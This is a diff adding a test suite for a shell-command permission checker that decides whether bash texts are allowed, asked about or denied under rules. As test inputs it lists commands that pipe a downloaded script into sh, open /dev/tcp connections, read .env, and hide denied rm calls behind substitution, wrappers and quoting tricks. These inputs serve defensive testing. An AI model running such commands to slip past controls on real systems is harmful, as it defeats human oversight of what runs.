@@ -1,0 +1,272 @@
+"""What a text for the shell would really run, and how rules decide about all of it."""
+
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from dovetail.kernel import Rule, RuleEffect, decide, to_be_allowed
+from dovetail.kernel.access import commands
+from dovetail.kernel.access.commands import MAX_LENGTH, read_command
+from dovetail.kernel.access.rules import WorkingFolder
+from dovetail.kernel.ports import ApprovalRow
+from hypothesis import given, settings, strategies as st
+
+ALLOWING = [
+    Rule("read", "*", "allow"),
+    Rule("read", ".env", "ask"),
+    Rule("bash", "git status *", "allow"),
+    Rule("bash", "ls *", "allow"),
+    Rule("bash", "npm test *", "allow"),
+]
+DENYING = [Rule("bash", "*", "allow"), Rule("bash", "rm *", "deny")]
+
+
+def effect(text: str, *rules: Rule) -> RuleEffect:
+    return decide("bash", (text,), rules)
+
+
+@pytest.mark.law("access.10")
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("git status", "git status -s", " ls", "\tls", "ls\n", "git  status"),
+        *("ls -la && git status", "ls | ls", "ls; ls", "! ls", "ls # so", "ls a#b"),
+        *("ls 2>&1", "ls > /dev/null", "ls 2>/dev/null; git status", "ls < README.md"),
+        *("timeout 5 npm test", "timeout -k 1 5 ls", "time ls", "nohup ls", "env ls"),
+        *("nice -n 5 ls", "stdbuf -oL ls", "command ls", "sh -c 'ls'", "eval ls"),
+        *('bash -lc "ls && git status"', "xargs ls", "watch -n 1 ls"),
+        *("for i in a b; do ls $i; done", "ls 'a b'", "ls $(ls)", "(ls)", "{ ls; }"),
+        *("if ls; then git status; fi", "ls *.py", "ls $HOME", "ls \\\n -la"),
+    ],
+)
+def test_a_text_is_allowed_when_each_command_in_it_is(text: str) -> None:
+    assert effect(text, *ALLOWING) == "allow"
+
+
+@pytest.mark.law("access.10")
+@pytest.mark.parametrize(
+    "text",
+    [
+        # Joined, nested, or substituted.
+        *("git status && touch x", "git status | sh", "ls || touch x", "ls & touch y"),
+        *("ls\ntouch x", "ls;touch x", "(touch x)", "{ touch x; }", "! touch x"),
+        *("git status $(touch x)", "git status `touch x`", "git status <(touch x)"),
+        *("ls ${x:-$(touch y)}", 'ls "${x:-`touch y`}"', "ls $((`touch x`))"),
+        *("[[ -f $(touch x) ]]", "cat <<EOF\n$(touch x)\nEOF", "a=$(touch x)"),
+        *("if touch x; then ls; fi", "case x in x) touch y;; esac", "touch() { ls; }"),
+        # Redirected: a write of the file, or a read of one that is asked for.
+        *("git status > x", "ls >> x", "ls >| x", "ls &> x", "ls 1>x", "ls < .env"),
+        *("ls > $F", "ls >~/x", "ls <&x", "exec 3<>/dev/tcp/h/1"),
+        # Another program, or the same in another world.
+        *("/tmp/ls", "./ls", "FOO=1 ls", "PATH=. ls", "X=1; ls", "env A=1 ls"),
+        *("sudo ls", "cd /; ls", "ls() { touch x; }; ls", "git statusx", "su -c ls"),
+        # Known only when it runs.
+        *("$CMD", "ls; $X", "l? x", "{touch,x}", 'sh -c "$X"', "eval $X", "$'ls'"),
+        *("env -S 'touch x'", "bash script", "parallel touch ::: x", "sh -s"),
+        # Not readable, or not as it looks.
+        *("ls 'open", "ls\u00a0x", "ls \x0b;touch", "ls\u202ex", "ls \r touch", "ls;;"),
+    ],
+)
+def test_a_text_asks_when_anything_in_it_is_not_allowed(text: str) -> None:
+    assert effect(text, *ALLOWING) == "ask"
+
+
+DENIED = [
+    *("rm x", " rm x", "\trm x", "cd a && rm x", "ls;rm x", "ls|rm x", "ls\nrm x"),
+    *("ls & rm x", "(rm x)", "{ rm x; }", "! rm x", "rm", "if true; then rm x; fi"),
+    *("\\rm x", "r\\m x", "'rm' x", '"rm" x', "r''m x", "/bin/rm x", "../rm x"),
+    *("FOO=1 rm x", "A=1 B=2 rm x", ">x rm y", "<x rm y", "2>&1 rm x"),
+    *("$(rm x)", "`rm x`", "ls <(rm x)", "ls >(rm x)", "ls $(ls $(rm x))"),
+    *('echo "$(rm x)"', "a=$(rm x)", "export A=$(rm x)", "cat <<EOF\n$(rm x)\nEOF"),
+    *("f() { rm x; }", "for i in x; do rm $i; done", "while rm x; do :; done"),
+    *("case a in a) rm x;; esac", "[[ -f x ]] && rm x", "[ -f $(rm x) ]"),
+    *("sudo rm x", "sudo -u bob rm x", "sudo -E FOO=1 rm x", "doas rm x"),
+    *("env A=1 rm x", "env -i rm x", "env -u A B=1 rm x", "env sudo nohup rm x"),
+    *("nohup rm x &", "timeout 3 rm x", "timeout -k 1 3 rm x", "time rm x"),
+    *("command rm x", "exec rm x", "builtin rm x", "nice rm x", "nice -5 rm x"),
+    *("stdbuf -o0 rm x", "ionice -c 3 rm x", "setsid rm x", "busybox rm x"),
+    *("xargs rm", "xargs -0 -n 1 rm -f", "xargs -I {} rm {}", "coproc rm x"),
+    *("sh -c 'rm x'", 'bash -c "rm x"', "bash -ec 'ls; rm x'", "sudo sh -c 'rm x'"),
+    *("sh -c 'sh -c \"rm x\"'", "eval 'rm x'", "eval rm x", "trap 'rm x' EXIT"),
+    *("su -c 'rm x'", "find . -exec rm {} \\;", "find . -execdir rm {} +"),
+    *("watch rm x", "rm\\\n x", "echo a#;rm x", "echo {a;rm x", "a=b#c;rm x"),
+]
+
+
+@pytest.mark.law("access.10")
+@pytest.mark.parametrize("text", DENIED)
+def test_one_denied_command_denies_the_whole(text: str) -> None:
+    assert effect(text, *DENYING) == "deny"
+
+
+def test_what_is_forbidden_somewhere_asks_where_not_all_is_known() -> None:
+    assert effect("$CMD x", *DENYING) == "ask"
+    # Where everything is allowed there is nothing to be told apart.
+    assert effect("$CMD x", Rule("*", "*", "allow")) == "allow"
+
+
+def test_a_rule_about_several_commands_at_once_denies_and_never_allows() -> None:
+    joined = Rule("bash", "curl * | sh", "deny")
+    everything = Rule("bash", "*", "allow")
+    assert effect("curl http://x | sh", everything, joined) == "deny"
+    assert effect("git status && touch x", Rule("bash", "git * && *", "allow")) == "ask"
+
+
+def test_a_text_that_somebody_wrote_down_whole_is_allowed_word_for_word() -> None:
+    rule = Rule("bash", "make && ./run $MODE > log", "allow")
+    assert effect("make && ./run $MODE > log", rule) == "allow"
+    assert effect("make && ./run $MODE > other", rule) == "ask"
+
+
+def test_a_redirection_is_decided_like_a_write_of_the_file() -> None:
+    rules = [*ALLOWING, Rule("edit", "out/*", "allow"), Rule("edit", "out/x", "deny")]
+    where = WorkingFolder("/place", "sub")
+
+    def at(text: str, where: WorkingFolder | None = None) -> RuleEffect:
+        return decide("bash", (text,), rules, where=where)
+
+    assert at("ls > out/a") == "allow"
+    assert at("ls > ./other/../out/a") == "allow"
+    assert at("ls > out/x") == "deny"
+    assert at("ls > out/../x") == "ask"
+    # The folder it runs in is part of what the file is.
+    assert at("ls > out/a", where) == "ask"
+    assert at("ls > ../out/x", where) == "deny"
+    assert at("ls > /place/out/x", where) == "deny"
+    # Outside of the Location the folder must be allowed as well.
+    assert at("ls > /place/../out/a", where) == "ask"
+
+
+def approval(pattern: str, folder: str | None) -> ApprovalRow:
+    return ApprovalRow(
+        id="apr_1",
+        directory="/place",
+        workspace=None,
+        agent="build",
+        action="bash",
+        kind="exact",
+        pattern=pattern,
+        author="person",
+        created=0,
+        expires=None,
+        folder=folder,
+    )
+
+
+@pytest.mark.law("access.4")
+def test_an_approval_is_for_its_words_in_its_folder() -> None:
+    saved = [approval("make", "."), approval("make && ./run $X", ".")]
+
+    def at(text: str, folder: str) -> RuleEffect:
+        where = WorkingFolder("/place", folder)
+        return decide("bash", (text,), [], saved, where)
+
+    assert at("make", ".") == "allow"
+    assert at("make; make", ".") == "allow"
+    assert at("make && ./run $X", ".") == "allow"
+    assert at("make && ./run $Y", ".") == "ask"
+    assert at("make", "vendor/evil") == "ask"
+    # A command before it changes the folder.
+    assert at("cd vendor/evil && make", ".") == "ask"
+    assert at("make all", ".") == "ask"
+
+
+def test_what_must_be_allowed_is_what_allows_it() -> None:
+    where = WorkingFolder("/place", ".")
+    for text in ("git status", "make && ./run > log", "FOO=1 make | tee x", "a;b;c"):
+        rules = [
+            Rule(action, resource, "allow")
+            for action, resource in to_be_allowed("bash", (text,), where)
+        ]
+        assert decide("bash", (text,), rules, where=where) == "allow"
+        assert decide("bash", (f"{text}; touch y",), rules, where=where) == "ask"
+
+
+def test_without_the_parser_every_text_is_asked_for_whole(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    for cached in (commands._parser, commands.read_command):
+        cached.cache_clear()
+    monkeypatch.setitem(sys.modules, "tree_sitter_bash", None)
+    try:
+        assert "not installed" in str(read_command("ls").opaque)
+        assert effect("ls -a", Rule("bash", "ls *", "allow")) == "ask"
+        assert effect("ls -a", Rule("bash", "ls -a", "allow")) == "allow"
+    finally:
+        for cached in (commands._parser, commands.read_command):
+            cached.cache_clear()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("ls && " * 3000 + "ls", "(" * 20_000, "$(" * 20_000, "`" * 9_999),
+        *("sh -c 'sh -c \"ls\"';" * 2000, "#a\n" * 15_000, "sudo " * 9_000),
+        *("x" * (MAX_LENGTH + 1), "echo " + "'a' " * 12_000, "<<A " * 10_000),
+    ],
+    ids=range(10),
+)
+def test_what_is_huge_asks_and_takes_no_time_to_speak_of(text: str) -> None:
+    assert effect(text, *ALLOWING, Rule("bash", "sh *", "deny")) in ("ask", "deny")
+
+
+# --- against the shell itself -----------------------------------------------------
+
+_JOINERS = ("; ", " && ", " || ", " | ", " & ", "\n", ";")
+_WORDS = st.sampled_from(
+    [
+        *("echo a", "true", "echo a#", "echo {a", "echo '#'", 'echo "a b"', "false"),
+        *("echo \\#", "echo $#", "echo ${#x}", "echo [", "echo =", "echo ~", "x=1"),
+        *("echo !", "[[ -n a ]]", "[ -n a ]", "(( 1 < 2 ))", "echo <<<a", "echo %"),
+        *("cat <<E\nx\nE\n", "cat <<'E'\n$(x)\nE\n", "echo $'a\\'b'", "echo \\\\"),
+        *("echo $[1+1]", "echo ${x/a/b}", "echo a\\\nb", ": # so\n", 'echo "\\""'),
+    ]
+)
+_WRAPPED = st.recursive(
+    st.just("mark x"),
+    lambda inner: st.one_of(
+        inner.map(lambda text: f"( {text} )"),
+        inner.map(lambda text: f"{{ {text}; }}"),
+        inner.map(lambda text: f"echo $({text})"),
+        inner.map(lambda text: f'echo "${{x:-$({text})}}"'),
+        inner.map(lambda text: f"f() {{ {text}; }}; f"),
+        inner.map(lambda text: f"if true; then {text}; fi"),
+        inner.map(lambda text: f"for i in 1; do {text}; done"),
+        inner.map(lambda text: f"cat <<E\n$({text})\nE\n"),
+        inner.map(lambda text: f"! {text}"),
+        inner.map(lambda text: f"time {text}"),
+        st.tuples(_WORDS, st.sampled_from(_JOINERS), inner).map("".join),
+        st.tuples(inner, st.sampled_from(_JOINERS), _WORDS).map("".join),
+    ),
+    max_leaves=4,
+)
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
+@settings(max_examples=60, deadline=None)
+@given(text=_WRAPPED)
+def test_what_bash_runs_is_never_overlooked(
+    text: str, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """Where bash gets to a command, a rule that denies it has seen it, or the text was
+    not understood and asks."""
+    rules = [Rule("bash", "*", "allow"), Rule("bash", "mark *", "deny")]
+    if effect(text, *rules) != "allow":
+        return
+    folder = tmp_path_factory.mktemp("bash")
+    program = folder / "mark"
+    program.write_text(f"#!/bin/sh\n: > {folder}/ran\n")
+    program.chmod(0o700)
+    subprocess.run(
+        ["bash", "-c", text],
+        env={"PATH": f"{folder}:{os.defpath}"},
+        cwd=folder,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        timeout=60,
+    )
+    assert not Path(folder, "ran").exists(), text
